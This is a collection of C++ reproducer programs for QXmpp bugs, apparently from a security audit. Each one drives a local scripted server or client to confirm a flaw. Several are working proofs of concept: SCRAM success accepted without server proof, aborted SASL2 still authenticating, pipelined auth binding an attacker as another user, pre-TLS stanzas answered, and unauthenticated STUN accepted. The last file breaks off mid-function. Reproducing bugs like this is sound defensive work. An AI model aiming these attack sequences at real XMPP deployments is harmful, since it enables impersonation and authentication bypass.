# builds the fact extractor (offline; clang 14 libTooling by path)
LLVM_CXXFLAGS := $(shell llvm-config-14 --cxxflags)
build/qxv: tool/qxv.cc
	mkdir -p build
	clang++ $(LLVM_CXXFLAGS) -fno-rtti -O1 tool/qxv.cc -o build/qxv /usr/lib/llvm-14/lib/libclang-cpp.so.14 /usr/lib/llvm-14/lib/libLLVM-14.so
