// C06.R3: a server that answers the SCRAM client-first message with <success/> right away (it never proves
// knowledge of the password) is accepted: the client restarts the stream as authenticated.
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "ScriptedServer.h"
#include <QCoreApplication>
#include <QTimer>
#include <cstdio>

static int runOnce(bool sasl2)
{
    ScriptedServer srv;
    const QByteArray open = "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='s1' from='localhost' version='1.0'>";
    if (!sasl2) {
        srv.on("<stream:stream", open + "<stream:features><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>SCRAM-SHA-1</mechanism></mechanisms></stream:features>");
        srv.on("<auth", "<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/>");
    } else {
        srv.on("<stream:stream", open + "<stream:features><authentication xmlns='urn:xmpp:sasl:2'><mechanism>SCRAM-SHA-1</mechanism></authentication></stream:features>");
        srv.on("<authenticate", "<success xmlns='urn:xmpp:sasl:2'><authorization-identifier>alice@localhost</authorization-identifier></success>");
    }
    QXmppClient client;
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(srv.port());
    cfg.setDomain("localhost");
    cfg.setUser("alice");
    cfg.setPassword("pw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
    cfg.setUseSasl2Authentication(sasl2);
    cfg.setAutoReconnectionEnabled(false);
    client.connectToServer(cfg);
    QEventLoop loop;
    QTimer::singleShot(1500, &loop, &QEventLoop::quit);
    loop.exec();
    bool authed = client.isAuthenticated();
    printf("detail: %s: isAuthenticated=%d, bytes after <success/>: %s\n", sasl2 ? "SASL2" : "SASL", authed, srv.pending.left(120).constData());
    return authed ? 1 : 0;
}

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    int a = runOnce(false);
    int b = runOnce(true);
    if (a || b) {
        printf("REPRODUCED: SCRAM login reported successful without any server signature (%s%s)\n", a ? "SASL " : "", b ? "SASL2" : "");
        return 1;
    }
    printf("not reproduced: early <success/> is refused\n");
    return 0;
}
