// C16.R5 (stale answer): a SASL 2 <abort/> made the server answer <failure><aborted/> and forget the request, but not the exchange: the password
// checker's answer that was still on its way then authenticated the connection after all (and onSasl2Authenticated() read the reset request).
#include "QXmppPasswordChecker.h"
#include "QXmppServer.h"
#include <QCoreApplication>
#include <QTcpSocket>
#include <QTimer>
#include <cstdio>
#include <cstdlib>

class Checker : public QXmppPasswordChecker
{
public:
    QXmppPasswordReply *checkPassword(const QXmppPasswordRequest &request) override
    {
        auto *reply = new QXmppPasswordReply;
        reply->setError(request.username() == "mallory" && request.password() == "mallorypw" ? QXmppPasswordReply::NoError : QXmppPasswordReply::AuthorizationError);
        QTimer::singleShot(50, reply, &QXmppPasswordReply::finish);
        return reply;
    }
    bool hasGetPassword() const override { return false; }
};

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    Checker checker;
    QXmppServer server;
    server.setDomain("localhost");
    server.setPasswordChecker(&checker);
    if (!server.listenForClients(QHostAddress::LocalHost, 45227)) {
        printf("detail: cannot listen\n");
        return 2;
    }
    QByteArray rx;
    QTcpSocket c;
    bool sent = false;
    QObject::connect(&c, &QTcpSocket::readyRead, [&]() {
        rx += c.readAll();
        if (!sent && rx.contains("</stream:features>")) {
            sent = true;
            rx.clear();
            c.write("<authenticate xmlns='urn:xmpp:sasl:2' mechanism='PLAIN'><initial-response>" + QByteArray("\0mallory\0mallorypw", 18).toBase64() +
                    "</initial-response></authenticate><abort xmlns='urn:xmpp:sasl:2'/>");
            c.flush();
        }
    });
    c.connectToHost(QHostAddress::LocalHost, 45227);
    c.waitForConnected(1000);
    c.write("<?xml version='1.0'?><stream:stream to='localhost' version='1.0' xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>");
    c.flush();
    QTimer::singleShot(1000, &app, &QCoreApplication::quit);
    app.exec();
    const bool failure = rx.contains("<aborted");
    const bool success = rx.contains("<success");
    printf("detail: after authenticate+abort the server sent: %s\n", rx.left(400).constData());
    if (failure && success) {
        printf("REPRODUCED: the aborted authentication was answered with <failure><aborted/> and then completed with <success/> all the same\n");
        fflush(stdout);
        _Exit(1);
    }
    printf("not reproduced (aborted: %d, success: %d)\n", failure, success);
    return 0;
}
