// C17.R2: JMI and Call-Invite elements are written in the sensitive part but parsed only in public mode,
// so parsing the sensitive part of a split message loses them.
#include "QXmppJingleData.h"
#include "QXmppMessage.h"
#include <QDomDocument>
#include <QXmlStreamWriter>
#include <cstdio>

int main()
{
    QXmppMessage m;
    QXmppJingleMessageInitiationElement jmi;
    jmi.setType(QXmppJingleMessageInitiationElement::Type::Propose);
    jmi.setId("call1");
    m.setJingleMessageInitiationElement(jmi);
    QXmppCallInviteElement ci;
    ci.setType(QXmppCallInviteElement::Type::Invite);
    ci.setId("inv1");
    m.setCallInviteElement(ci);

    QByteArray pub, sens;
    { QXmlStreamWriter w(&pub); m.toXml(&w, QXmpp::ScePublic); }
    { QXmlStreamWriter w(&sens); m.toXml(&w, QXmpp::SceSensitive); }
    QDomDocument d1, d2;
    d1.setContent(pub, true);
    d2.setContent(sens, true);
    QXmppMessage back;
    back.parse(d1.documentElement(), QXmpp::ScePublic);
    back.parse(d2.documentElement(), QXmpp::SceSensitive);
    bool lostJmi = !back.jingleMessageInitiationElement().has_value();
    bool lostCi = !back.callInviteElement().has_value();
    bool inSens = sens.contains("call1") && sens.contains("inv1");
    if (inSens && (lostJmi || lostCi)) {
        printf("REPRODUCED: written in the sensitive part, lost after parse(public)+parse(sensitive): %s%s\n", lostJmi ? "JMI " : "", lostCi ? "CallInvite" : "");
        printf("detail: sensitive part: %s\n", sens.constData());
        return 1;
    }
    printf("not reproduced: both elements recovered (in sensitive part: %d)\n", inSens);
    return 0;
}
