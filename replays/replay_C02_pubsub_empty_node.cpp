// C02 (one parse/serialize pass is a fix-point): PubSub elements with an EMPTY node attribute. The element-type checks test for the presence of the attribute
// (hasAttribute / attribute().isNull()), the writers emit it only when the value is non-empty - so what pass 1 keeps, pass 2 no longer recognises.
#include "QXmppPubSubIq_p.h"
#include "QXmppPubSubBaseItem.h"
#include <QDomDocument>
#include <QXmlStreamWriter>
#include <cstdio>

using Iq = QXmpp::Private::PubSubIq<QXmppPubSubBaseItem>;

static QByteArray pass(const QByteArray &xml, bool *recognised)
{
    QDomDocument doc;
    doc.setContent(xml, true);
    *recognised = Iq::isPubSubIq(doc.documentElement());
    Iq iq;
    iq.parse(doc.documentElement());
    QByteArray out;
    QXmlStreamWriter w(&out);
    iq.toXml(&w);
    return out;
}

static int probe(const char *what, const QByteArray &xml)
{
    bool r1, r2, r3;
    const QByteArray d1 = pass(xml, &r1);
    const QByteArray d2 = pass(d1, &r2);
    const QByteArray d3 = pass(d2, &r3);
    printf("detail: %s\n   pass 1: %s (input recognised %d)\n   pass 2: %s (pass-1 output recognised %d)\n", what, d1.constData(), int(r1), d2.constData(), int(r2));
    return (d1 == d2 && r1 == r2) ? 0 : 1;
}

int main()
{
    int bad = 0;
    bad += probe("<affiliation node=''/>", "<iq xmlns='jabber:client' id='a1' type='result' from='pubsub.example'><pubsub xmlns='http://jabber.org/protocol/pubsub'><affiliations>"
                                           "<affiliation affiliation='owner' node=''/></affiliations></pubsub></iq>");
    bad += probe("<items node=''/>", "<iq xmlns='jabber:client' id='a2' type='get' to='pubsub.example'><pubsub xmlns='http://jabber.org/protocol/pubsub'><items node=''/></pubsub></iq>");
    bad += probe("owner <subscription subscription=''/>", "<iq xmlns='jabber:client' id='a4' type='result' from='pubsub.example'><pubsub xmlns='http://jabber.org/protocol/pubsub#owner'>"
                                                          "<subscriptions node='n'><subscription jid='a@b' subscription=''/></subscriptions></pubsub></iq>");
    bad += probe("control <items node='n'/>", "<iq xmlns='jabber:client' id='a3' type='get' to='pubsub.example'><pubsub xmlns='http://jabber.org/protocol/pubsub'><items node='n'/></pubsub></iq>");
    if (bad) {
        printf("REPRODUCED: %d PubSub IQ(s) whose pass-1 output is changed (or no longer recognised) by the next pass\n", bad);
        return 1;
    }
    printf("not reproduced\n");
    return 0;
}
