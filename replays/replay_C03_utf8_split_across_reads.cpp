// C03.R1: a multi-byte UTF-8 character split across two socket reads is decoded separately (U+FFFD twice).
#include "XmppSocket.h"
#include <QCoreApplication>
#include <QDomElement>
#include <QSslSocket>
#include <QTcpServer>
#include <QTimer>
#include <cstdio>
using namespace QXmpp::Private;

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    QTcpServer server;
    server.listen(QHostAddress::LocalHost, 0);
    QTcpSocket *peer = nullptr;
    const QByteArray header = "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>";
    const QByteArray msg = QString::fromUtf8("<message><body>grüße €</body></message>").toUtf8();
    QObject::connect(&server, &QTcpServer::newConnection, [&]() {
        peer = server.nextPendingConnection();
        peer->write(header);
        peer->flush();
        int cut = msg.indexOf("\xc3\xbc") + 1;   // between the two bytes of 'ü'
        QTimer::singleShot(100, [&, cut]() { peer->write(msg.left(cut)); peer->flush(); });
        QTimer::singleShot(300, [&, cut]() { peer->write(msg.mid(cut)); peer->flush(); });
    });
    QSslSocket sock;
    XmppSocket xs(nullptr);
    xs.setSocket(&sock);
    QString body;
    QObject::connect(&xs, &XmppSocket::stanzaReceived, [&](const QDomElement &el) {
        if (el.tagName() == "message") body = el.firstChildElement("body").text();
    });
    sock.connectToHost(QHostAddress::LocalHost, server.serverPort());
    QTimer::singleShot(1200, &app, &QCoreApplication::quit);
    app.exec();
    const QString want = QString::fromUtf8("grüße €");
    if (body != want) {
        printf("REPRODUCED: body received as '%s' instead of '%s' when the read boundary falls inside a character\n", body.toUtf8().constData(), want.toUtf8().constData());
        return 1;
    }
    printf("not reproduced: body intact ('%s')\n", body.toUtf8().constData());
    return 0;
}
