// C17.R2e: the element predicates of JMI / Call-Invite insist on an id attribute that the writers emit only when the id is non-empty.
// A message carrying such an element with an empty id is split correctly (the element is in the sensitive part only), but parsing the
// sensitive part does not recover the field: the element becomes an unknown extension, and unknown extensions are written in every
// mode - so when the parsed message is serialized again, the call signalling appears in the public part.
#include "QXmppJingleData.h"
#include "QXmppMessage.h"
#include <QDomDocument>
#include <QXmlStreamWriter>
#include <cstdio>

static int probe(const char *what, QXmppMessage m, const char *marker)
{
    QByteArray pub, sens;
    { QXmlStreamWriter w(&pub); m.toXml(&w, QXmpp::ScePublic); }
    { QXmlStreamWriter w(&sens); m.toXml(&w, QXmpp::SceSensitive); }
    QDomDocument d1, d2;
    d1.setContent(pub, true);
    d2.setContent(sens, true);
    QXmppMessage back;
    back.parse(d1.documentElement(), QXmpp::ScePublic);
    back.parse(d2.documentElement(), QXmpp::SceSensitive);
    const bool recovered = back.jingleMessageInitiationElement().has_value() || back.callInviteElement().has_value();
    QByteArray pub2;
    { QXmlStreamWriter w(&pub2); back.toXml(&w, QXmpp::ScePublic); }
    const bool leaked = pub2.contains(marker);
    printf("%s: in sensitive part %d, in public part %d | after parse(public)+parse(sensitive): field recovered %d, unknown extensions %d | public part of the parsed message contains it: %d\n",
           what, int(sens.contains(marker)), int(pub.contains(marker)), int(recovered), int(back.extensions().size()), int(leaked));
    return (!recovered || leaked) ? 1 : 0;
}

int main()
{
    int bad = 0;
    {
        QXmppMessage m;
        QXmppJingleMessageInitiationElement jmi;
        jmi.setType(QXmppJingleMessageInitiationElement::Type::Proceed);      // id left empty
        m.setJingleMessageInitiationElement(jmi);
        bad += probe("JMI <proceed/> without id", m, "<proceed");
    }
    {
        QXmppMessage m;
        QXmppCallInviteElement ci;
        ci.setType(QXmppCallInviteElement::Type::Left);                     // id left empty
        m.setCallInviteElement(ci);
        bad += probe("Call-Invite <left/> without id", m, "<left");
    }
    {
        // control: with an id both are recovered
        QXmppMessage m;
        QXmppJingleMessageInitiationElement jmi;
        jmi.setType(QXmppJingleMessageInitiationElement::Type::Proceed);
        jmi.setId("c1");
        m.setJingleMessageInitiationElement(jmi);
        if (probe("control: JMI <proceed id='c1'/>", m, "<proceed")) {
            printf("control failed\n");
            return 2;
        }
    }
    if (bad) {
        printf("REPRODUCED: %d id-less element(s) are not recovered from the sensitive part and leave the encrypted part on re-serialization\n", bad);
        return 1;
    }
    printf("not reproduced\n");
    return 0;
}
