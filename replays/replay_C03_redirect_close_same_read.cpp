// C03 / C10: a server that redirects sends <stream:error><see-other-host/></stream:error></stream:stream>. When error and closing tag arrive in ONE
// read, the client follows the redirect while handling the error and then handles the closing tag of the old stream by disconnecting - which
// aborts the connection attempt to the new host. When the closing tag arrives in a LATER read (or not at all) the redirect is followed.
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "ScriptedServer.h"
#include <QCoreApplication>
#include <QTimer>
#include <cstdio>
#include <cstdlib>

static bool followed(QCoreApplication &app, bool closeInSameRead)
{
    ScriptedServer a, b;
    const QByteArray header = "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='s1' from='localhost' version='1.0'>";
    const QByteArray error = "<stream:error><see-other-host xmlns='urn:ietf:params:xml:ns:xmpp-streams'>127.0.0.1:%PORT%</see-other-host></stream:error>";
    b.on("<stream:stream", header + "<stream:features><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN</mechanism></mechanisms></stream:features>");
    QByteArray e = error;
    e.replace("%PORT%", QByteArray::number(b.port()));
    a.on("<stream:stream", header + e + (closeInSameRead ? QByteArray("</stream:stream>") : QByteArray()));
    QXmppClient client;
    client.logger()->setLoggingType(QXmppLogger::NoLogging);
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(a.port());
    cfg.setJid("romeo@localhost/r");
    cfg.setPassword("pw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
    cfg.setDisabledSaslMechanisms({});
    cfg.setAutoReconnectionEnabled(false);
    client.connectToServer(cfg);
    if (!closeInSameRead) {
        QTimer::singleShot(400, &app, [&]() {
            if (a.sock && a.sock->state() == QAbstractSocket::ConnectedState) { a.sock->write("</stream:stream>"); a.sock->flush(); }
        });
    }
    QTimer::singleShot(1500, &app, &QCoreApplication::quit);
    app.exec();
    const bool reached = b.received.contains("<auth");
    printf("detail: closing tag %s: the client negotiated with the new host: %d\n", closeInSameRead ? "in the same read as the error" : "in a later read", int(reached));
    return reached;
}

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    const bool later = followed(app, false);
    const bool same = followed(app, true);
    if (later && !same) {
        printf("REPRODUCED: the redirect is followed only if the closing tag of the old stream is not in the read that carries the error\n");
        fflush(stdout);
        _Exit(1);
    }
    printf(later ? "not reproduced\n" : "not reproduced: the redirect is not followed in the control either\n");
    fflush(stdout);
    _Exit(0);
}
