// C10.R1 candidate: bind2Bound is only reset in openSession(). Attempt 1 authenticates with SASL 2 + Bind 2 (carbons enabled inline)
// and the link drops right after <success/>; attempt 2 uses plain SASL + resource binding. Does the second session still believe
// that Bind 2 enabled carbons (and therefore never enable them)?
#include "QXmppCarbonManagerV2.h"
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "ScriptedServer.h"
#include <QCoreApplication>
#include <QTimer>
#include <cstdio>

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    ScriptedServer srv;
    const QByteArray open = "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='s1' from='localhost' version='1.0'>";
    // attempt 1
    srv.on("<stream:stream", open + "<stream:features><authentication xmlns='urn:xmpp:sasl:2'><mechanism>PLAIN</mechanism><inline><bind xmlns='urn:xmpp:bind:0'><inline><feature var='urn:xmpp:carbons:2'/></inline></bind></inline></authentication></stream:features>");
    srv.on("</authenticate>", "<success xmlns='urn:xmpp:sasl:2'><authorization-identifier>alice@localhost/r1</authorization-identifier><bound xmlns='urn:xmpp:bind:0'/></success><<close>>");
    // attempt 2
    srv.on("<stream:stream", open + "<stream:features><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN</mechanism></mechanisms></stream:features>");
    srv.on("<auth", "<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/>");
    srv.on("<stream:stream", open + "<stream:features><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'/></stream:features>");
    srv.on("xmpp-bind", "<iq type='result' id='qxmpp4'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'><jid>alice@localhost/r2</jid></bind></iq>");
    QXmppClient client;
    client.addNewExtension<QXmppCarbonManagerV2>();
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(srv.port());
    cfg.setDomain("localhost");
    cfg.setUser("alice");
    cfg.setPassword("pw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
    cfg.setDisabledSaslMechanisms({});
    cfg.setAutoReconnectionEnabled(false);
    int sessions = 0;
    QObject::connect(&client, &QXmppClient::connected, [&]() { sessions++; });
    bool second = false;
    QObject::connect(&client, &QXmppClient::disconnected, [&]() {
        if (!second) { second = true; QTimer::singleShot(100, [&]() { client.connectToServer(cfg); }); }
    });
    client.connectToServer(cfg);
    QTimer::singleShot(4000, &app, &QCoreApplication::quit);
    app.exec();
    QByteArray afterBind = srv.received.mid(srv.received.lastIndexOf("xmpp-bind"));
    bool enabledCarbons = afterBind.contains("urn:xmpp:carbons:2");
    printf("detail: sessions opened=%d, script steps played=%d/%d, carbons enable sent in second session=%d\n", sessions, srv.step, srv.script.size(), enabledCarbons);
    if (sessions == 1 && srv.step >= 6 && !enabledCarbons) {
        printf("REPRODUCED: the second (plain SASL) session inherits bind2Bound from the aborted first attempt and never enables carbons\n");
        return 1;
    }
    printf("detail: tail: %s\n", srv.received.right(700).constData());
    if (srv.step < 6 || sessions == 0) { printf("detail: script did not complete; inconclusive\n%s\n", srv.received.right(600).constData()); return 2; }
    printf("not reproduced: the second session enables carbons itself\n");
    return 0;
}
