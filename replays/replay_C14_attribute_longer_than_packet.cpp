// C14.R7: an attribute whose declared length exceeds what is left of the packet is accepted: the value buffer is resized to the
// declared length, only the available bytes are read and the rest stays uninitialised heap memory (handed to the TURN data path).
#include "QXmppStun.h"
#include <QByteArray>
#include <QDataStream>
#include <cstdio>
#include <cstdlib>
#include <cstring>

int main()
{
    int bad = 0;
    for (quint16 claimed : { quint16(64), quint16(4096), quint16(65535) }) {
        // leave recognisable garbage in freed heap blocks of that size
        for (int i = 0; i < 8; i++) {
            char *p = static_cast<char *>(malloc(claimed + 32));
            memset(p, 'S', claimed + 32);
            free(p);
        }
        QByteArray packet;
        QDataStream s(&packet, QIODevice::WriteOnly);
        s << quint16(0x0017);            // Data indication
        s << quint16(4);                 // message length: just the attribute header
        s << quint32(0x2112A442);
        s.writeRawData("0123456789ab", 12);
        s << quint16(0x0013) << claimed;  // DATA, declared length, no value bytes at all
        QXmppStunMessage m;
        QStringList errors;
        const bool ok = m.decode(packet, QByteArray(), &errors);
        int garbage = 0;
        for (char c : m.data()) garbage += (c == 'S');
        printf("detail: DATA attribute declaring %u bytes in a %d byte packet: decode=%s, data().size()=%d, stale heap bytes seen=%d\n",
               unsigned(claimed), int(packet.size()), ok ? "accepted" : "rejected", int(m.data().size()), garbage);
        if (ok && m.data().size() > 0) bad++;
    }
    if (bad) { printf("REPRODUCED: %d truncated packets accepted with a value longer than the packet (uninitialised memory exposed)\n", bad); return 1; }
    printf("not reproduced: attributes longer than the packet are rejected\n");
    return 0;
}
