// C16.R1b: QXmppIncomingClient::onPasswordReply built the identity from saslServer->username() at the time the password checker's reply arrives.
// A client that pipelines a second <auth/> (for another account, wrong password) behind its own valid one replaces saslServer before the first
// reply is delivered: the approval of the attacker's own password assigns the victim's address to the connection. The window lasts until the
// second reply arrives (a checker that answers a failed lookup later than a hit - any database-backed checker - makes it as long as that lookup).
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "QXmppMessage.h"
#include "QXmppPasswordChecker.h"
#include "QXmppServer.h"
#include <QCoreApplication>
#include <QTcpSocket>
#include <QTimer>
#include <cstdio>
#include <cstdlib>

// asynchronous checker: a hit is answered after 10 ms, a miss after 400 ms
class Checker : public QXmppPasswordChecker
{
public:
    QXmppPasswordReply *checkPassword(const QXmppPasswordRequest &request) override
    {
        auto *reply = new QXmppPasswordReply;
        const bool ok = (request.username() == "mallory" && request.password() == "mallorypw") || (request.username() == "bob" && request.password() == "bobpw");
        reply->setError(ok ? QXmppPasswordReply::NoError : QXmppPasswordReply::AuthorizationError);
        QTimer::singleShot(ok ? 10 : 400, reply, &QXmppPasswordReply::finish);
        return reply;
    }
    bool hasGetPassword() const override { return false; }
};

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    Checker checker;
    QXmppServer server;
    server.setDomain("localhost");
    server.setPasswordChecker(&checker);
    if (!server.listenForClients(QHostAddress::LocalHost, 45226)) {
        printf("detail: cannot listen\n");
        return 2;
    }
    QXmppClient bob;
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(45226);
    cfg.setDomain("localhost");
    cfg.setUser("bob");
    cfg.setPassword("bobpw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
    cfg.setDisabledSaslMechanisms({});
    cfg.setSaslAuthMechanism("PLAIN");
    QString got;
    QObject::connect(&bob, &QXmppClient::messageReceived, [&](const QXmppMessage &m) { got = m.from() + " says " + m.body(); });
    QByteArray rx;
    QTcpSocket attacker;
    int stage = 0;
    const QByteArray header = "<?xml version='1.0'?><stream:stream to='localhost' version='1.0' xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'>";
    QObject::connect(&attacker, &QTcpSocket::readyRead, [&]() {
        rx += attacker.readAll();
        if (stage == 0 && rx.contains("</stream:features>")) {
            stage = 1;
            // own account, correct password - and behind it, in the same write, the victim's name with a wrong password
            attacker.write("<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>" + QByteArray("\0mallory\0mallorypw", 18).toBase64() + "</auth>"
                           "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>" + QByteArray("\0carol\0wrong", 12).toBase64() + "</auth>");
            attacker.flush();
        } else if (stage == 1 && rx.contains("<success")) {
            stage = 2;
            rx.clear();
            attacker.write(header);
            attacker.write("<iq type='set' id='b1'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'><resource>phone</resource></bind></iq>"
                           "<iq type='set' id='s1'><session xmlns='urn:ietf:params:xml:ns:xmpp-session'/></iq>"
                           "<message to='bob@localhost' type='chat'><body>hi bob, it is me, carol</body></message>");
            attacker.flush();
        }
    });
    QObject::connect(&bob, &QXmppClient::connected, [&]() {
        attacker.connectToHost(QHostAddress::LocalHost, 45226);
        attacker.waitForConnected(1000);
        attacker.write(header);
        attacker.flush();
    });
    bob.connectToServer(cfg);
    // evaluate before the checker's second (negative) answer is due: on the defective tree that answer dereferences the already reset saslServer
    QTimer::singleShot(300, &app, &QCoreApplication::quit);
    app.exec();
    const bool boundAsCarol = rx.contains("<jid>carol@localhost/phone</jid>");
    if (boundAsCarol || got.startsWith("carol@")) {
        printf("REPRODUCED: a connection that proved only mallory's password was %s%s\n", boundAsCarol ? "bound as carol@localhost/phone; " : "",
               got.isEmpty() ? "" : "and its message reached bob stamped with carol's address");
        printf("detail: bob saw: '%s'\n", qPrintable(got));
        fflush(stdout);
        _Exit(1);
    }
    printf("not reproduced: bob saw '%s'; attacker stage %d, received: %s\n", qPrintable(got), stage, rx.right(200).constData());
    return 0;
}
