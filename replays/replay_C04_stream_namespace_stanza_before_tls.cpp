// C04.R3b: the pre-TLS gate of handleElement let every element of the stream namespace through (meant for <stream:error/>):
// a hostile server can send <stream:iq type='get'> with a version query before STARTTLS and gets the answer in clear.
// (first observed by the C04 seeding sub-agent on the unmodified tree)
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "ScriptedServer.h"
#include <QCoreApplication>
#include <QTimer>
#include <cstdio>

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    ScriptedServer srv;
    srv.on("<stream:stream", "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='s1' from='localhost' version='1.0'>"
                             "<stream:iq type='get' id='probe1' from='localhost'><query xmlns='jabber:iq:version'/></stream:iq>");
    QXmppClient client;
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(srv.port());
    cfg.setDomain("localhost");
    cfg.setUser("alice");
    cfg.setPassword("pw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSRequired);
    cfg.setAutoReconnectionEnabled(false);
    client.connectToServer(cfg);
    QTimer::singleShot(2000, &app, &QCoreApplication::quit);
    app.exec();
    if (srv.received.contains("probe1")) {
        printf("REPRODUCED: TLS required, unencrypted socket, client answered a stanza sent in the stream namespace\n");
        printf("detail: %s\n", srv.received.constData());
        return 1;
    }
    printf("not reproduced: nothing but the stream header was sent before encryption (%d bytes)\n", srv.received.size());
    return 0;
}
