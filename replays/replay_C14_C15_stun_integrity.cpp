// C14.R6: the library's HMAC is wrong for keys longer than the 64-byte block (compared with Qt's QMessageAuthenticationCode).
// C14.R3 / C15.R3: a STUN binding request without any MESSAGE-INTEGRITY attribute decodes successfully under a key,
//                  i.e. is treated as authenticated by QXmppIceComponent::handleDatagram.
#include "QXmppStun.h"
#include "QXmppUtils.h"
#include <QMessageAuthenticationCode>
#include <cstdio>

int main()
{
    int bad = 0;
    for (int len : { 20, 64, 65, 100, 300 }) {
        QByteArray key(len, 'k');
        QByteArray text = "what do ya want for nothing?";
        bool same = QXmppUtils::generateHmacSha1(key, text) == QMessageAuthenticationCode::hash(text, key, QCryptographicHash::Sha1);
        printf("detail: HMAC-SHA1 key length %d: %s\n", len, same ? "matches Qt" : "DIFFERS from Qt");
        if (!same) bad |= 1;
    }
    if (bad & 1) printf("REPRODUCED: generateHmacSha1 is wrong for keys longer than 64 bytes\n");

    QXmppStunMessage request;
    request.setType(int(QXmppStunMessage::Binding) | int(QXmppStunMessage::Request));
    request.setId(QByteArray(12, 'i'));
    request.setPriority(1234);
    request.useCandidate = true;
    const QByteArray unauthenticated = request.encode(QByteArray(), true);      // no MESSAGE-INTEGRITY at all
    QXmppStunMessage decoded;
    QStringList errors;
    if (decoded.decode(unauthenticated, QByteArray("the-session-password"), &errors)) {
        printf("REPRODUCED: decode(buffer, key) accepts a binding request that carries no MESSAGE-INTEGRITY (useCandidate=%d)\n", decoded.useCandidate);
        bad |= 2;
    }
    const QByteArray good = request.encode(QByteArray("the-session-password"), true);
    QXmppStunMessage d2;
    if (!d2.decode(good, QByteArray("the-session-password"))) { printf("REPRODUCED: a correctly keyed message is refused\n"); bad |= 4; }
    QXmppStunMessage d3;
    if (d3.decode(good, QByteArray("another-password"))) { printf("REPRODUCED: a message keyed with another password is accepted\n"); bad |= 4; }
    QXmppStunMessage d4;
    if (!d4.decode(unauthenticated, QByteArray())) { printf("REPRODUCED: decode without key refuses a message without integrity\n"); bad |= 4; }
    if (!bad) printf("not reproduced: HMAC agrees with Qt for all key lengths; keyed decode requires a verified MESSAGE-INTEGRITY\n");
    return bad ? 1 : 0;
}
