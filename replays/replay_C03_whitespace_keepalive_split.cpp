// C03 (same events whatever the read boundaries): a whitespace keep-alive (RFC 6120 4.6.1) that arrives as a read of its own is handed to
// the client as a null element; QXmppOutgoingClient::handleElement rejects it ("Unexpected element received.") and disconnects. The same
// blank arriving in one read together with the following stanza is skipped by the XML parser and nothing happens.
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "ScriptedServer.h"
#include <QCoreApplication>
#include <QTimer>
#include <cstdio>
#include <cstdlib>

static int run(QCoreApplication &app, bool separateRead)
{
    ScriptedServer srv;
    const QByteArray header = "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='s1' from='localhost' version='1.0'>";
    srv.on("<stream:stream", header + "<stream:features><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN</mechanism></mechanisms></stream:features>");
    srv.on("<auth", "<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/>");
    srv.on("<stream:stream", header + "<stream:features><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'/></stream:features>");
    srv.on("<bind", "<iq type='result' id='@ID@'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'><jid>romeo@localhost/r</jid></bind></iq>");
    QXmppClient client;
    client.logger()->setLoggingType(QXmppLogger::NoLogging);
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(srv.port());
    cfg.setJid("romeo@localhost/r");
    cfg.setPassword("pw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
    cfg.setDisabledSaslMechanisms({});
    cfg.setAutoReconnectionEnabled(false);
    int messages = 0, disconnects = 0;
    QObject::connect(&client, &QXmppClient::messageReceived, [&](const QXmppMessage &) { messages++; });
    QObject::connect(&client, &QXmppClient::disconnected, [&]() { disconnects++; });
    QObject::connect(&client, &QXmppClient::connected, [&]() {
        const QByteArray msg = "<message from='juliet@localhost/x' to='romeo@localhost/r' type='chat'><body>hi</body></message>";
